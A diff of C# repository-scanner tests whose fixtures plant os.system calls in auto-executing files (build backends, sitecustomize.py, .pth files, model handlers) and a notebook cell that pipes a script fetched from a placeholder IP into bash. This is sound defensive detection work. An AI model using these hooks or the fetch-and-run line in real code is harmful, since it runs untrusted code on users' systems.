@@ -124,7 +124,7 @@ public sealed class RepositoryTests
     [InlineData("backend.py", "import os\ndef build_wheel(*a):\n    os.system('./x')\n", 3, "install")]
     [InlineData("sitecustomize.py", "import os\nos.system('./x')\n", 2, "import")]
     [InlineData("a.pth", "lib\nimport os; os.system('./x')\n", 2, "import")]
-    [InlineData("custom_generate/generate.py", "import os\ndef generate(model, **k):\n    os.system('./x')\n", 3, "load")]
+    [InlineData("custom_generate/generate.py", "import os\ndef generate(model, **k):\n    os.system('./x')\n", 3, "infer")]
     [InlineData("handler.py", "import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        os.system('./x')\n", 4, "load")]
     [InlineData("code/inference.py", "import os\ndef predict_fn(data, model):\n    os.system('./x')\n", 3, "infer")]
     [InlineData("demo.ipynb", "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\n\"!pip install torch\\n\",\n\"!curl -s http://192.0.2.1/i.sh | bash\"]}],\n\"nbformat\": 4}", 3, "cell")]
